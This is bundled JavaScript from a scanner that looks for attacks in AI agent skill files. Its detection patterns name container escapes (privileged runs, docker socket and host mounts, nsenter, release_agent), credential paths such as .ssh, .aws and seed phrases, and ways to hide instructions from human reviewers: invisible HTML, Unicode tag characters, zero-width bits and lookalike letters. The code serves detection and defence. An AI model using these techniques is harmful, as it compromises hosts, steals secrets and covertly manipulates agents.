    for (const link of [...unit.find(ANONYMOUS_HOST), ...unit.find(SHORTENED_LINK), ...unit.find(RAW_ADDRESS_LINK)]) {
        const paste = nearest(unit.find(PASTE_IN_TERMINAL), link, WORDS_NEAR_LINK);
        const run = nearest(unit.find(RUN_PROGRAM), link, WORDS_NEAR_LINK);
        if (paste === undefined && run === undefined)
            continue;
        const pressed = nearest(unit.find(PRESSURE), link, fake_prerequisite_NEAR) !== undefined;
        yield codeHit(view, unit, link, 'critical', paste !== undefined && pressed ? 'high' : 'medium', {
            lure: 'pasted-script',
            link: hostOf(link),
        });
    }
}
/** A program to download and start before the skill is said to work. */
function* runPackages(view, unit) {
    for (const link of unit.find(PACKAGE_LINK)) {
        const run = nearest(unit.find(RUN_PROGRAM), link, WORDS_NEAR_LINK);
        if (run === undefined || nearest(unit.find(PRESSURE), link, fake_prerequisite_NEAR) === undefined)
            continue;
        const program = /^(?:exe|msi|dmg|pkg|scr|iso|apk|hta|vbs|lnk|appimage)$/i.test(link.groups['kind'] ?? '');
        yield codeHit(view, unit, link, 'high', program ? 'medium' : 'low', { lure: 'required-download', link: hostOf(link) });
    }
}
function hostOf(link) {
    return link.groups['host'] ?? '';
}

// EXTERNAL MODULE: ./lib/rules/skill/false-authority.js
var false_authority = __webpack_require__(7734);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/false-authority.js




/** Words that claim a say which a skill does not have. */
const falseAuthorityDetector = {
    rule: false_authority/* falseAuthority */.F,
    signals: [FALSE_AUTHORITY, GRAB_ATTENTION],
    *detect(view) {
        for (const unit of proseUnits(view)) {
            for (const match of unit.find(FALSE_AUTHORITY))
                yield proseHit(view, unit, match, 'medium', 'medium', { kind: 'authority' });
            for (const match of unit.find(GRAB_ATTENTION))
                yield proseHit(view, unit, match, 'low', 'medium', { kind: 'precedence' });
        }
    },
};

// EXTERNAL MODULE: ./lib/rules/skill/hidden-instruction.js
var hidden_instruction = __webpack_require__(896);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/hidden-instruction.js














/** What no text needs to hide. */
const GRAVE = [
    OVERRIDE,
    OVERRIDE_FOREIGN,
    SEND_FOREIGN,
    OBEY_FOREIGN,
    LEAKING_IMAGE,
    UNBOUND_PERSONA,
    SEND_PRIVATE,
    SEND_TO_WITH,
    TAKE_SECRET,
    OBEY_REMOTE,
    OBEY_RESPONSE,
    FETCH_TO_SHELL,
    SHELL_OF_FETCH,
    DECODE_TO_SHELL,
    SPREAD,
    RAW_ADDRESS_LINK,
];
const SUSPECT = [OVERRIDE_LOOSE, CONCEAL, FAKE_ROLE, NO_REFUSAL, NO_CONFIRMATION, POISON_MEMORY, SABOTAGE];
const HEEDED = new Set([
    'negated',
    'security-subject',
    'fixture',
    'pattern-source',
    'reference',
    'specimen',
]);
/** Instructions that stand where a reader of the rendered text does not see them, or that were disguised. */
const hiddenInstructionDetector = {
    rule: hidden_instruction/* hiddenInstruction */.h,
    signals: [...GRAVE, ...SUSPECT],
    *detect(view) {
        for (const unit of readUnits(view)) {
            for (const one of GRAVE)
                yield* hiddenMatches(view, unit, one, 'high');
            const address = /^\s{0,4}(?:https?|wss?|ftp):\/\/[^\s"']{6,300}\s{0,4}$/i.exec(unit.text);
            if (address !== null && unit.depth > 0 && unit.layer !== 'percent' && unit.layer !== 'escapes') {
                yield {
                    unit,
                    start: 0,
                    end: unit.text.length,
                    ...lowered('critical', 'high', stepsOf(contextAt(view, unit, { start: 0, end: 1 }), HEEDED)),
                    details: { where: `${unit.layer} text`, says: 'address' },
                };
            }
            for (const one of SUSPECT)
                yield* hiddenMatches(view, unit, one, 'medium');
        }
    },
};
function* hiddenMatches(view, unit, wanted, confidence) {
    for (const match of unit.find(wanted)) {
        const where = hidingPlace(unit, match);
        if (where === undefined)
            continue;
        const graded = lowered('critical', confidence, stepsOf(contextAt(view, unit, match), HEEDED));
        yield { unit, start: match.start, end: match.end, ...graded, details: { where, says: wanted.name } };
    }
}
function hidingPlace(unit, match) {
    if (unit.layer === 'normalised')
        return changedByNormalising(unit, match) ? 'disguised letters' : undefined;
    if (unit.layer !== 'plain')
        return `${unit.layer} text`;
    if (unit.file.language !== 'markdown')
        return undefined;
    const zone = zoneAt(unit.file.zones, match.start);
    if (zone?.kind === 'comment')
        return 'a comment';
    if (zone?.kind !== 'html')
        return undefined;
    const before = unit.text.slice(Math.max(0, match.start - 300), match.start);
    return /(?:display\s?:\s?none|visibility\s?:\s?hidden|font-size\s?:\s?[01](?:px|pt|em)?\b|color\s?:\s?(?:white|#fff(?:fff)?|transparent)\b|opacity\s?:\s?0\b|\bhidden\b|(?:alt|title|aria-label)\s?=\s?["'][^"']{0,200}$)/i.test(before)
        ? 'invisible HTML'
        : undefined;
}
/** Whether the match reads differently in the file itself. */
function changedByNormalising(unit, match) {
    const [start, end] = unit.outerRange(match.start, match.end);
    return unit.file.text.slice(start, end) !== match.text;
}

// EXTERNAL MODULE: ./lib/rules/skill/host-takeover.js
var host_takeover = __webpack_require__(3617);
;// CONCATENATED MODULE: ./lib/skills/analysis/signals/host-access.js

const CONTAINER = ['docker', 'podman', 'nerdctl'];
/** The rest of a command line, over lines that end in a backslash. */
const REST = String.raw `(?:[^\n]|\\\n){0,1200}`;
/** A container that is started, with all its options. */
const RUN_CONTAINER = signal('run-container', CONTAINER, /\b(?:docker|podman|nerdctl)(?:\s+--?[\w=/.-]{1,40}){0,3}\s+(?:container\s+)?(?:run|create)\b(?<options>(?:[^\n\\]|\\\n|\\(?!\n)){1,1200})/, 1400);
/** A shell that enters the processes of the host from within. */
const ENTER_HOST = signal('enter-host', ['nsenter', 'release_agent'], new RegExp(String.raw `\bnsenter\b${REST.replace('1200', '80')}(?:-t\s{0,2}1|--target[= ]1)\b|>\s{0,3}[^\s>]{0,80}\brelease_agent\b`));
/** A folder that everyone may write and that root then owns, or the other way round. */
const OPEN_TO_ALL = signal('open-to-all', ['chmod'], /\bchmod\s+(?:-R\s+)?(?:0?777|a\+rwx?)\s+(?<path>\/[^\s;&|]{2,120})[^\n]{0,20}(?:\n[^\n]{0,20})?\bchown\s+(?:-R\s+)?root(?::\w{1,20})?\s+\/[^\s;&|]{2,120}/);

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/host-takeover.js



const PRIVILEGED = /\s--privileged\b(?!=false)|--cap-add[= ](?:ALL|SYS_ADMIN|SYS_PTRACE|SYS_MODULE)\b|(?:apparmor|seccomp)[:=]unconfined/iu;
const MOUNT = String.raw `(?:-v|--volume|--mount)[= ]["']?(?:type=bind,)?(?:source=|src=)?`;
const SOCKET = new RegExp(String.raw `${MOUNT}/(?:var/)?run/(?:docker|containerd|podman|crio)\S{0,40}\.sock`, 'iu');
/** Folders of the host that hold keys, or everything. */
const WHOLE_HOST = new RegExp(String.raw `${MOUNT}(?:/(?::|,|\s)|/(?:root|home)(?:/|:|,)|/etc/(?:shadow|sudoers|cron|ssh|kubernetes)|(?:~|\$HOME|\$\{HOME\})(?::|/\.(?:ssh|aws|kube|gnupg|config/gcloud)\b))`, 'iu');
const SECRET_VARIABLES = /(?:-e|--env)[= ]["']?[A-Z0-9_]{0,40}(?:SECRET|TOKEN|PASSWORD|PRIVATE_KEY|API_KEY|ACCESS_KEY)[A-Z0-9_]{0,20}=["']?\$/u;
const HOST_SPACE = /--(?:pid|ipc|userns|uts)[= ]host\b/iu;
/** Containers that are root on their host, and ways out of a container. */
const hostTakeoverDetector = {
    rule: host_takeover/* hostTakeover */.i,
    signals: [RUN_CONTAINER, ENTER_HOST, OPEN_TO_ALL],
    *detect(view) {
        for (const unit of view.units) {
            for (const match of unit.find(RUN_CONTAINER)) {
                const judged = host_takeover_gradeOf(match.groups['options'] ?? '');
                if (judged === undefined)
                    continue;
                const [severity, confidence, how] = judged;
                yield codeHit(view, unit, match, severity, confidence, { how, command: match.text.slice(0, 120) });
            }
            for (const match of unit.find(ENTER_HOST))
                yield codeHit(view, unit, match, 'high', 'medium', { how: 'a container the processes of its host', command: match.text });
            for (const match of unit.find(OPEN_TO_ALL))
                yield codeHit(view, unit, match, 'high', 'high', { how: 'everyone the files that root owns and runs', command: match.text });
        }
    },
};
/** One power is often needed; two of different kinds, and keys most of all, are not. */
function host_takeover_gradeOf(options) {
    const privileged = PRIVILEGED.test(options);
    const socket = SOCKET.test(options);
    const whole = WHOLE_HOST.test(options);
    const space = HOST_SPACE.test(options);
    if (whole && privileged)
        return ['critical', 'high', 'a container with the rights of the host its keys and files'];
    if (whole && (socket || space))
        return ['critical', 'medium', 'a container the keys, files and processes of the host'];
    if (privileged && SECRET_VARIABLES.test(options))
        return ['critical', 'medium', 'secrets to a container with the rights of the host'];
    if (privileged && (socket || space))
        return ['high', 'high', 'a container the rights of the host'];
    if (socket)
        return ['high', 'medium', 'a container the socket of the daemon that starts containers'];
    if (privileged || whole)
        return ['medium', 'low', 'a container rights over the host'];
    return undefined;
}

// EXTERNAL MODULE: ./lib/rules/skill/instruction-override.js
var instruction_override = __webpack_require__(5382);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/instruction-override.js




/** Words that set the agent's own instructions aside. */
const instructionOverrideDetector = {
    rule: instruction_override/* instructionOverride */.h,
    signals: [OVERRIDE, OVERRIDE_LOOSE, OVERRIDE_FOREIGN, UNBOUND_PERSONA, FAKE_ROLE, NO_REFUSAL],
    detect: (view) => together([...overrides(view)]),
};
function* overrides(view) {
    for (const unit of readUnits(view)) {
        for (const match of unit.find(OVERRIDE))
            yield proseHit(view, unit, match, 'critical', 'high', { kind: 'override' });
        for (const match of unit.find(OVERRIDE_FOREIGN))
            yield plainProseHit(view, unit, match, 'critical', { kind: 'override' });
        if (unit.file.role === 'script' || unit.file.role === 'config')
            continue;
        for (const match of unit.find(OVERRIDE_LOOSE))
            yield proseHit(view, unit, match, 'critical', 'medium', { kind: 'loose' });
        for (const match of unit.find(UNBOUND_PERSONA))
            yield proseHit(view, unit, match, 'critical', 'high', { kind: 'persona' });
        for (const match of unit.find(NO_REFUSAL))
            yield proseHit(view, unit, match, 'high', 'medium', { kind: 'no-refusal' });
        for (const match of unit.find(FAKE_ROLE))
            yield proseHit(view, unit, match, 'high', 'low', { kind: 'fake-role' });
    }
}
/** Two kinds at places that nothing speaks for are one attack, however loose each of them is. */
function together(hits) {
    const plain = hits.filter((hit) => hit.details['mitigations'] === undefined);
    if (new Set(plain.map((hit) => hit.details['kind'])).size < 2)
        return hits;
    return hits.map((hit) => (hit.details['mitigations'] === undefined ? { ...hit, severity: 'critical', confidence: 'high' } : hit));
}

// EXTERNAL MODULE: ./lib/rules/skill/invisible-text.js
var invisible_text = __webpack_require__(8084);
;// CONCATENATED MODULE: ./lib/skills/analysis/layers/invisible.js
/** Whether a text can hold any of what this file reads: one quick look. */
const INVISIBLE = /[\u200B-\u200F\u2060-\u2064\uFE00-\uFE0F\u00AD\u180E\u061C\u202A-\u202E\u2066-\u2069\uFEFF\uDB40]/;
const TAG_RUN = /(?:\uDB40[\uDC00-\uDC7F]){3,}/g;
const SELECTOR_RUN = /(?:[\uFE00-\uFE0F]|\uDB40[\uDD00-\uDDEF]){4,}/g;
const BIT_RUN = /[\u200B-\u200D\u2060-\u2064\uFEFF]{16,}/g;
/** Text written in tag characters (Unicode block E0000), one for each ASCII character. */
function revealTags(text) {
    const found = [];
    for (const match of text.matchAll(TAG_RUN)) {
        // A flag of a subdivision: U+1F3F4, tags, U+E007F (UTS #51, emoji tag sequences).
        if (text.slice(0, match.index).endsWith('\u{1F3F4}') && match[0].length <= 14 && match[0].endsWith('\uDB40\uDC7F'))
            continue;
        let decoded = '';
        for (const character of match[0]) {
            const code = (character.codePointAt(0) ?? 0) - 0xe0000;
            if (code >= 32 && code < 127)
                decoded += String.fromCharCode(code);
        }
        if (decoded !== '')
            found.push({ layer: 'tags', start: match.index, end: match.index + match[0].length, text: decoded });
    }
    return found;
}
/** Bytes written in variation selectors: FE00 to FE0F are 0 to 15, E0100 to E01EF are 16 to 255. */
function revealSelectors(text) {
    const found = [];
    for (const match of text.matchAll(SELECTOR_RUN)) {
        const bytes = [...match[0]].map((character) => {
            const code = character.codePointAt(0) ?? 0;
            return code >= 0xe0100 ? code - 0xe0100 + 16 : code - 0xfe00;
        });
        const decoded = new TextDecoder().decode(Uint8Array.from(bytes));
        found.push({ layer: 'bits', start: match.index, end: match.index + match[0].length, text: decoded });
    }
    return found;
}
/** Bits written in two kinds of zero-width characters, in either sense, eight to a byte. */
function revealBits(text) {
    const found = [];
    for (const match of text.matchAll(BIT_RUN)) {
        const kinds = [...new Set(match[0])].sort();
        for (const one of kinds.slice(0, 2)) {
            const decoded = bytesOfBits([...match[0]].map((character) => (character === one ? 1 : 0)));
            if (/^[\x20-\x7e\s]{2,}$/.test(decoded))
                found.push({ layer: 'bits', start: match.index, end: match.index + match[0].length, text: decoded });
        }
    }
    return found;
}
function bytesOfBits(bits) {
    let text = '';
    for (let index = 0; index + 8 <= bits.length; index += 8) {
        text += String.fromCharCode(bits.slice(index, index + 8).reduce((byte, bit) => byte * 2 + bit, 0));
    }
    return text;
}

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/invisible-text.js



const OVERRIDE_MARK = /[\u202D\u202E]|[\u2066-\u2068][^\u2069\n]{0,2000}$/gm;
const INSIDE_WORD = /[A-Za-z][\u200B\u2060\u2062-\u2064\u180E\u00AD]{1,20}[A-Za-z]/g;
const ZERO_WIDTH_RUN = /[\u200B\u2060-\u2064\u180E\uFEFF]{4,}|(?<=[A-Za-z ])[\u200C\u200D]{2,}/g;
/** Characters that no reader sees and every model reads. */
const invisibleTextDetector = {
    rule: invisible_text/* invisibleText */.v,
    signals: [],
    *detect(view) {
        for (const unit of view.units) {
            if (unit.layer === 'plain' && INVISIBLE.test(unit.text))
                yield* invisibleIn(view, unit);
        }
    },
};
function* invisibleIn(view, unit) {
    const { text } = unit;
    for (const tags of revealTags(text))
        yield codeHit(view, unit, tags, 'critical', 'high', { kind: 'tag characters', reveals: tags.text.slice(0, 200) });
    for (const run of revealSelectors(text)) {
        const readable = /^[\x20-\x7e\s]{4,}$/.test(run.text);
        yield codeHit(view, unit, run, 'critical', readable ? 'high' : 'medium', {
            kind: 'variation selectors',
            reveals: readable ? run.text.slice(0, 200) : '',
        });
    }
    for (const bits of revealBits(text))
        yield codeHit(view, unit, bits, 'critical', 'high', { kind: 'zero-width bits', reveals: bits.text.slice(0, 200) });
    for (const match of text.matchAll(ZERO_WIDTH_RUN))
        yield codeHit(view, unit, placeOf(match), match[0].length >= 8 ? 'critical' : 'high', match[0].length >= 8 ? 'high' : 'medium', {
            kind: 'zero-width characters',
            reveals: '',
        });
    for (const match of text.matchAll(OVERRIDE_MARK))
        yield codeHit(view, unit, placeOf(match), 'high', 'high', { kind: 'bidirectional overrides', reveals: '' });
    const split = [...text.matchAll(INSIDE_WORD)];
    const [first] = split;
    if (first !== undefined)
        yield codeHit(view, unit, placeOf(first), split.length >= 3 ? 'high' : 'medium', 'medium', {
            kind: 'zero-width characters inside words',
            reveals: '',
        });
}
function placeOf(match) {
    return { start: match.index, end: match.index + match[0].length };
}

// EXTERNAL MODULE: ./lib/rules/skill/lookalike-name.js
var lookalike_name = __webpack_require__(8334);
;// CONCATENATED MODULE: ./lib/skills/analysis/layers/normalise.js
/**
 * Latin letters that letters of other scripts look like: Cyrillic, Greek and a few more, the ones in every face (a part of
 * Unicode's confusables, UTS #39, chosen by hand).
 */
const LOOKALIKES = new Map([
    ...pairs('аеорсухѕіјһԁԛԝьгкмтнвп', 'aeopcyxsijhdqwbrkmthbn'),
    ...pairs('АВЕКМНОРСТУХЅІЈԌ', 'ABEKMHOPCTYXSIJG'),
    ...pairs('αεορυχνικτγηρω', 'aeopuxviktynpw'),
    ...pairs('ΑΒΕΖΗΙΚΜΝΟΡΤΥΧ', 'ABEZHIKMNOPTYX'),
    ...pairs('ıɑɡɩʟʀꜱᴀᴄᴅᴇᴍɴᴏᴘᴛᴜᴠᴡʏ', 'iagilrsacdemnoptuvwy'),
]);
function pairs(from, to) {
    return [...from].map((character, index) => [character, to.charAt(index)]);
}
const IGNORABLE = /^[\u200B-\u200F\u2060-\u2064\uFEFF\u00AD\u180E\u061C\u202A-\u202E\u2066-\u2069\uFE00-\uFE0F\u034F\u115F\u1160\u3164]$/;
/** Anything that normalising could change. */
const NEEDS_NORMALISING = /[\u200B-\u200F\u2060-\u2064\u00AD\u180E\u061C\u202A-\u202E\u2066-\u2069\uFE00-\uFE0F\u034F\u115F\u1160\u3164\u0370-\u03FF\u0400-\u052F\uFF01-\uFF5E\u0131\u0251\u0261\u1D00-\u1D7F\uA730-\uA731]|(?<!^)\uFEFF|\uD835|\uDB40|\uD83C[\uDD30-\uDD89]/;
/** What normalising may change, one character at a time. */
const CHANGEABLE = /[\u200B-\u200F\u2060-\u2064\uFEFF\u00AD\u180E\u061C\u202A-\u202E\u2066-\u2069\uFE00-\uFE0F\u034F\u115F\u1160\u3164\u0131\u0251\u0261\u0262\u0370-\u03FF\u0400-\u052F\u026A\u0274\u0280\u028F\u029F\u1D00-\u1D7F\uA730-\uA731\uFF01-\uFF5E\u{1D400}-\u{1D7FF}\u{1F130}-\u{1F189}\u{E0000}-\u{E01EF}]/gu;
/**
 * The text as a reader sees it: invisible characters dropped, compatibility forms folded (NFKC), and lookalike letters
 * replaced in words that mix them with Latin ones or consist of nothing else. Undefined when nothing changes.
 */
function normalise(text) {
    if (!NEEDS_NORMALISING.test(text))
        return undefined;
    const pieces = [];
    const changes = [];
    let word = { end: 0, deservesSkeleton: false };
    let copied = 0;
    for (const match of text.matchAll(CHANGEABLE)) {
        const [character] = match;
        if (match.index >= word.end && LOOKALIKES.has(character))
            word = wordAround(text, match.index);
        const piece = plainForm(character, match.index < word.end && word.deservesSkeleton);
        if (piece === character)
            continue;
        pieces.push(text.slice(copied, match.index), piece);
        changes.push({ at: match.index, length: piece.length, next: match.index + character.length });
        copied = match.index + character.length;
    }
    if (changes.length === 0)
        return undefined;
    pieces.push(text.slice(copied));
    const plain = pieces.join('');
    return { text: plain, offsets: offsetsOf(text, changes, plain.length) };
}
function offsetsOf(text, changes, length) {
    const offsets = new Int32Array(length + 1);
    let to = 0;
    let from = 0;
    for (const { at, length: replaced, next } of changes) {
        to = copyRun(text, offsets, to, from, at);
        offsets.fill(at, to, to + replaced);
        to += replaced;
        from = next;
    }
    copyRun(text, offsets, to, from, text.length);
    offsets[length] = text.length;
    return offsets;
}
/** Units that stay: their offsets count up. The two units of a character beyond the basic plane both stand at its first. */
function copyRun(text, offsets, to, from, end) {
    for (let at = from; at < end; at += 1)
        offsets[to + at - from] = at > from && isPair(text, at - 1) ? at - 1 : at;
    return to + end - from;
}
function isPair(text, offset) {
    return (text.charCodeAt(offset) & 0xfc00) === 0xd800 && (text.charCodeAt(offset + 1) & 0xfc00) === 0xdc00;
}
const WORD_CHARACTER = /[\p{L}\p{Cf}\p{M}\uFE00-\uFE0F]/u;
/** The word that holds an offset: letters and what may stand unseen between them. */
function wordAround(text, offset) {
    let start = offset;
    for (let before = precedingCharacter(text, start); WORD_CHARACTER.test(before); before = precedingCharacter(text, start))
        start -= before.length;
    let end = offset;
    for (let after = characterAt(text, end); WORD_CHARACTER.test(after); after = characterAt(text, end))
        end += after.length;
    return { end, deservesSkeleton: deservesSkeleton(text.slice(start, end)) };
}
function characterAt(text, offset) {
    const code = text.codePointAt(offset);
    return code === undefined ? '' : String.fromCodePoint(code);
}
function precedingCharacter(text, offset) {
    const character = offset >= 2 ? characterAt(text, offset - 2) : '';
    return character.length === 2 ? character : text.charAt(offset - 1);
}
function plainForm(character, replaceLookalikes) {
    const code = character.codePointAt(0) ?? 0;
    if (code < 128)
        return character;
    if (IGNORABLE.test(character) || (code >= 0xe0000 && code <= 0xe01ef))
        return '';
    if (replaceLookalikes)
        return LOOKALIKES.get(character) ?? foldCompatible(character, code);
    return foldCompatible(character, code);
}
/** Full-width forms, mathematical letters and squared letters; other compatibility forms do not imitate ASCII. */
function foldCompatible(character, code) {
    const imitates = (code >= 0xff01 && code <= 0xff5e) || (code >= 0x1d400 && code <= 0x1d7ff) || (code >= 0x1f130 && code <= 0x1f189);
    return imitates ? character.normalize('NFKC') : character;
}
function deservesSkeleton(word) {
    if (!/[\u0370-\u03FF\u0400-\u052F\u0131\u0251\u0261\u0262\u026A\u0274\u0280\u028F\u029F\u1D00-\u1D7F\uA730-\uA731]/.test(word))
        return false;
    return /[A-Za-z]/.test(word) || [...word].every((character) => LOOKALIKES.has(character) || IGNORABLE.test(character));
}

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/lookalike-name.js




/** Names and hosts that are spelt with letters of another alphabet among Latin ones. */
const lookalikeNameDetector = {
    rule: lookalike_name/* lookalikeName */.H,
    signals: [],
    *detect(view) {
        for (const unit of view.units) {
            if (unit.layer !== 'normalised')
                continue;
            yield* disguisedIdentifiers(view, unit);
            for (const match of unit.text.matchAll(/^name\s?:\s?["']?([^\n"']{1,80})|https?:\/\/([^\s/"'<>)`]{3,100})/gim)) {
                const [start, end] = unit.outerRange(match.index, match.index + match[0].length);
                const written = unit.file.text.slice(start, end);
                if (written === match[0] || !/[A-Za-z]/.test(written) || !/[\u0370-\u052F\u0131\u0251\u0261\u1D00-\u1D7F]/.test(written))
                    continue;
                const isName = match[1] !== undefined;
                if (isName && zoneAt(unit.file.zones, start)?.kind !== 'front-matter')
                    continue;
                yield {
                    unit,
                    start: match.index,
                    end: match.index + match[0].length,
                    severity: 'high',
                    confidence: 'high',
                    details: { kind: isName ? 'name' : 'address', reads: match[1] ?? match[2] ?? '' },
                };
            }
        }
    },
};
/** Letters of Cyrillic or Armenian in one word with Latin ones: no programmer types them by accident. */
const MIXED = /[A-Za-z_][\u0400-\u052F\u0561-\u0587]|[\u0400-\u052F\u0561-\u0587][A-Za-z_]/;
function* disguisedIdentifiers(view, unit) {
    if (!MIXED.test(unit.file.text))
        return;
    const programs = unit.file.role === 'script'
        ? [[0, unit.file.text.length]]
        : unit.file.zones.filter((zone) => zone.kind === 'fence').map((zone) => [zone.start, zone.end]);
    for (const [from, to] of programs) {
        for (const word of unit.file.text.slice(from, to).matchAll(/[A-Za-z_\u0400-\u052F\u0561-\u0587]{2,40}(?=\s{0,2}[(=.])/g)) {
            if (!MIXED.test(word[0]))
                continue;
            const plain = normalise(word[0])?.text ?? word[0];
            const start = unit.offsetOf(from + word.index);
            yield codeHit(view, unit, { start, end: start + plain.length }, 'critical', 'high', { kind: 'identifier', reads: plain });
        }
    }
}

// EXTERNAL MODULE: ./lib/rules/skill/memory-poisoning.js
var memory_poisoning = __webpack_require__(1299);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/memory-poisoning.js






/** Instructions that outlive the session or leave the skill. */
const memoryPoisoningDetector = {
    rule: memory_poisoning/* memoryPoisoning */.Q,
    signals: [POISON_MEMORY, FOREVER, SPREAD, CONCEAL],
    *detect(view) {
        for (const unit of proseUnits(view)) {
            for (const match of unit.find(POISON_MEMORY)) {
                const concealed = nearest(unit.find(CONCEAL), match, 400) !== undefined;
                const lasting = nearest(unit.find(FOREVER), match, 250) !== undefined;
                yield proseHit(view, unit, match, concealed ? 'critical' : lasting ? 'medium' : 'low', concealed ? 'high' : 'medium', {
                    kind: 'memory',
                });
            }
            for (const match of unit.find(SPREAD))
                yield plainProseHit(view, unit, match, 'high', { kind: 'spread' });
        }
    },
};

// EXTERNAL MODULE: ./lib/rules/skill/padding.js
var padding = __webpack_require__(9668);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/padding.js

/** Lines that scroll what follows out of sight. */
const MIN_BLANK_LINES = 60;
const MIN_SPACES = 250;
/** White space that pushes text out of the reader's view. */
const paddingDetector = {
    rule: padding/* padding */.M,
    signals: [],
    *detect(view) {
        for (const unit of view.units) {
            if (unit.layer !== 'plain' || (unit.file.language !== 'markdown' && unit.file.role !== 'script'))
                continue;
            for (const gap of gapsOf(unit.text))
                yield { unit, ...gap, severity: 'medium', confidence: 'high', details: { kind: gap.kind } };
        }
    },
};
/** In one pass: runs of white space with that many line ends, or that wide, with text after them. */
function gapsOf(text) {
    const gaps = [];
    for (let offset = text.indexOf('\n\n\n'); offset >= 0 && gaps.length < 5; offset = text.indexOf('\n\n\n', offset)) {
        let end = offset;
        let lines = 0;
        while (end < text.length && text.charCodeAt(end) <= 32) {
            if (text.charCodeAt(end) === 10)
                lines += 1;
            end += 1;
        }
        if (lines >= MIN_BLANK_LINES && end < text.length)
            gaps.push({ start: end, end: Math.min(text.length, end + 80), kind: 'lines' });
        offset = Math.max(end, offset + 3);
    }
    const wide = ' '.repeat(MIN_SPACES);
    for (let offset = text.indexOf(wide); offset >= 0 && gaps.length < 5; offset = text.indexOf(wide, offset)) {
        let end = offset;
        while (end < text.length && text.charCodeAt(end) === 32)
            end += 1;
        if (end < text.length && text.charCodeAt(end) > 32 && !/[|`]/.test(text.charAt(end)))
            gaps.push({ start: end, end: Math.min(text.length, end + 80), kind: 'spaces' });
        offset = end + 1;
    }
    return gaps;
}

// EXTERNAL MODULE: ./lib/rules/skill/private-data-sending.js
var private_data_sending = __webpack_require__(5988);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/private-data-sending.js








/** What no service asks for, whoever it is. */
const KEPT_BY_ALL = /^~?\/?\.(?:env|ssh|aws)\b|^id_rsa|seed phrase|mnemonic|recovery phrase|contents? of/i;
/** Instructions, in words, to give private data to an address. */
const privateDataSendingDetector = {
    rule: private_data_sending/* privateDataSending */.W,
    signals: [SEND_COLLECTED, TAKE_PRIVATE, SEND_PRIVATE, SEND_TO_WITH, TAKE_AND_SEND, TAKE_SECRET, SEND_FOREIGN, LEAKING_IMAGE],
    *detect(view) {
        for (const unit of proseUnits(view)) {
            for (const match of [TAKE_AND_SEND, SEND_FOREIGN, LEAKING_IMAGE].flatMap((certain) => unit.find(certain)))
                yield proseHit(view, unit, match, 'critical', 'high', detailsOf(match));
            for (const match of unit.find(SEND_COLLECTED)) {
                const taken = nearest(unit.find(TAKE_PRIVATE), match, 300);
                if (taken === undefined || taken.start > match.start || !/^https?:|@/i.test(match.groups['where'] ?? ''))
                    continue;
                yield proseHit(view, unit, match, 'critical', 'high', { what: taken.groups['what'] ?? '', where: match.groups['where'] ?? '' });
            }
            for (const match of [...unit.find(SEND_PRIVATE), ...unit.find(SEND_TO_WITH)])
                yield judged(view, unit, match);
        }
    },
};
function judged(view, unit, match) {
    const details = detailsOf(match);
    const literal = /^https?:|@/i.test(details.where) || /^[^.\n]{0,20}https?:/i.test(unit.text.slice(match.end, match.end + 30));
    const taken = nearest(unit.find(TAKE_SECRET), match, 400) !== undefined;
    const kept = literal && KEPT_BY_ALL.test(details.what) && /\.(?:env|ssh|aws)\b|id_rsa|phrase|mnemonic/i.test(match.text);
    return taken || kept
        ? proseHit(view, unit, match, 'critical', literal ? 'high' : 'medium', details)
        : proseHit(view, unit, match, 'high', literal ? 'high' : 'medium', details);
}
function detailsOf({ groups }) {
    return {
        what: groups['what'] ?? groups['what2'] ?? '',
        where: groups['where'] ?? groups['where2'] ?? groups['where3'] ?? '',
    };
}

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/protection-disabled.js




/** With the rights of the administrator, in the same sentence. */
const protection_disabled_PRIVILEGED = /\b(?:sudo|as (?:an )?administrator|as root|elevated)\b[^.\n]{0,60}$/iu;
/** Instructions, in words, to switch a protection off. */
const protectionDisabledDetector = {
    rule: protection_disabled/* protectionDisabled */.s,
    signals: [DISABLE_PROTECTION],
    *detect(view) {
        for (const unit of proseUnits(view))
            for (const match of unit.find(DISABLE_PROTECTION)) {
                const before = unit.text.slice(Math.max(0, match.start - 100), match.start);
                const privileged = protection_disabled_PRIVILEGED.test(before);
                yield proseHit(view, unit, match, privileged ? 'critical' : 'high', privileged ? 'high' : 'medium', { command: match.text });
            }
    },
};

// EXTERNAL MODULE: ./lib/rules/skill/remote-instructions.js
var remote_instructions = __webpack_require__(2481);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/remote-instructions.js





/** Words that hand the agent over to whoever answers at an address. */
const remoteInstructionsDetector = {
    rule: remote_instructions/* remoteInstructions */.y,
    signals: [OBEY_REMOTE, OBEY_RESPONSE, OBEY_FOREIGN],
    *detect(view) {
        for (const unit of proseUnits(view)) {
            for (const match of unit.find(OBEY_REMOTE))
                yield plainProseHit(view, unit, match, 'high', {});
            for (const match of unit.find(OBEY_RESPONSE)) {
                // "Run code in response to an event" obeys nobody.
                const ambiguous = /\bin response$/i.test(match.text);
                yield ambiguous ? proseHit(view, unit, match, 'high', 'medium', {}) : plainProseHit(view, unit, match, 'high', {});
            }
            for (const match of unit.find(OBEY_FOREIGN))
                yield plainProseHit(view, unit, match, 'high', {});
        }
    },
};

// EXTERNAL MODULE: ./lib/rules/skill/resource-exhaustion.js
var resource_exhaustion = __webpack_require__(5154);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/resource-exhaustion.js




/** Words that have the agent work without an end. */
const resourceExhaustionDetector = {
    rule: resource_exhaustion/* resourceExhaustion */.d,
    signals: [EXHAUST],
    *detect(view) {
        for (const unit of proseUnits(view))
            for (const match of unit.find(EXHAUST))
                yield proseHit(view, unit, match, 'medium', 'medium', {});
    },
};

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/reverse-shell.js



/** Connections whose input a shell runs, wherever such a command is written. */
const reverse_shell_reverseShellDetector = {
    rule: reverse_shell/* reverseShell */.p,
    signals: [LISTEN_TO_SHELL],
    *detect(view) {
        for (const unit of view.units) {
            for (const match of unit.find(LISTEN_TO_SHELL))
                yield codeHit(view, unit, match, 'critical', 'high', { target: match.text.slice(0, 120), name: 'nc' });
        }
    },
};

